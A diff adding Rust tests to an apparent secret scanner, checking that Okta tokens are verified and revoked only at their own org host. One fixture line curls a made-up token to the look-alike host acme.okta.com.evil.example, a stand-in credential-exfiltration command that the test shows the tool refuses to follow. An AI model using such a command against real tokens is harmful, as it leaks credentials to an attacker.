@@ -1033,3 +1033,130 @@ fn issue_17_rules_name_only_existing_providers() {
     let r = run_in(dir.path(), &["scan", "."]);
     assert_eq!(r.code, 0, "{}", r.stderr);
 }
+
+/// A made-up Okta API token (`00` and 40 characters), different for each `seed`.
+fn okta_token(seed: u32) -> String {
+    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-";
+    let mut x = seed.wrapping_mul(2_654_435_761).wrapping_add(977);
+    let body: String = (0..40)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 17;
+            x ^= x << 5;
+            char::from(alphabet[(x % 64) as usize])
+        })
+        .collect();
+    format!("00{body}")
+}
+
+#[test]
+fn issue_17_an_okta_token_goes_only_to_its_own_org() {
+    let dir = tempdir();
+    let good = okta_token(1);
+    let bad = okta_token(2);
+    std::fs::write(
+        dir.path().join("okta.sh"),
+        format!(
+            "curl https://acme.okta.com/api/v1/users/me -H \"Authorization: SSWS {good}\"\n\
+             curl https://acme.okta.com.evil.example/api/v1/users/me -H \"Authorization: SSWS {bad}\"\n"
+        ),
+    )
+    .unwrap();
+    // The stand-in is the org: the token found with `acme.okta.com` reaches it (through the
+    // override); the one found with the look-alike host reaches nothing, override or not.
+    let server = FakeServer::start(vec![
+        Reply::json(
+            200,
+            r#"{"id":"00u1","profile":{"login":"ci@acme.example"}}"#,
+        ),
+        Reply::status(204),
+    ]);
+    let r = live(
+        dir.path(),
+        "okta",
+        &server,
+        &["scan", ".", "-f", "json", "--revoke", "--yes"],
+    );
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    let reqs = server.requests();
+    assert_eq!(
+        paths(&reqs),
+        [
+            ("GET".to_string(), "/api/v1/users/me".to_string()),
+            (
+                "DELETE".to_string(),
+                "/api/v1/api-tokens/current".to_string()
+            )
+        ]
+    );
+    for q in &reqs {
+        assert_eq!(
+            q.header("authorization"),
+            Some(format!("SSWS {good}").as_str())
+        );
+    }
+    let findings = r.json()["findings"].as_array().unwrap().clone();
+    assert_eq!(findings.len(), 2, "{findings:?}");
+    for f in &findings {
+        let host = f["annotations"]["host"].as_str().unwrap_or_default();
+        if host == "acme.okta.com" {
+            assert_eq!(f["verification"]["status"], "active", "{f}");
+            assert_eq!(f["revocation"]["outcome"], "revoked", "{f}");
+        } else {
+            assert_eq!(host, "acme.okta.com.evil.example", "{f}");
+            assert_eq!(f["verification"]["status"], "unknown", "{f}");
+            let why = f["verification"]["detail"].as_str().unwrap_or_default();
+            assert!(
+                why.contains("no host found for this credential")
+                    && why.contains("acme.okta.com.evil.example"),
+                "{why}"
+            );
+            assert!(f.get("revocation").is_none(), "{f}");
+        }
+    }
+    assert_secret_nowhere(&r, dir.path(), &good);
+    assert_secret_nowhere(&r, dir.path(), &bad);
+}
+
+#[test]
+fn issue_17_with_no_host_an_okta_token_is_sent_nowhere() {
+    let dir = tempdir();
+    let token = okta_token(3);
+    std::fs::write(dir.path().join(".env"), format!("OKTA_API_TOKEN={token}\n")).unwrap();
+    let log = dir.path().join("audit.jsonl");
+    let r = run_in(
+        dir.path(),
+        &[
+            "scan",
+            ".",
+            "-f",
+            "json",
+            "-c",
+            "/dev/null",
+            "--revoke",
+            "--dry-run",
+            "--audit-log",
+            log.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    let f = &r.json()["findings"][0];
+    assert_eq!(f["verification"]["status"], "unknown", "{f}");
+    let why = f["verification"]["detail"].as_str().unwrap_or_default();
+    assert!(
+        why.contains("no host found for this credential")
+            && why.contains("--provider-endpoint okta=https://HOST"),
+        "{why}"
+    );
+    assert!(
+        r.stderr.contains(
+            "dry run: okta: not sent (no host found for this credential (okta credentials \
+             go only to the host written next to them, under *.okta.com, *.okta-emea.com, \
+             *.oktapreview.com)"
+        ),
+        "{}",
+        r.stderr
+    );
+    assert!(!r.stderr.contains("okta: sent"), "{}", r.stderr);
+    assert_secret_nowhere(&r, dir.path(), &token);
+}
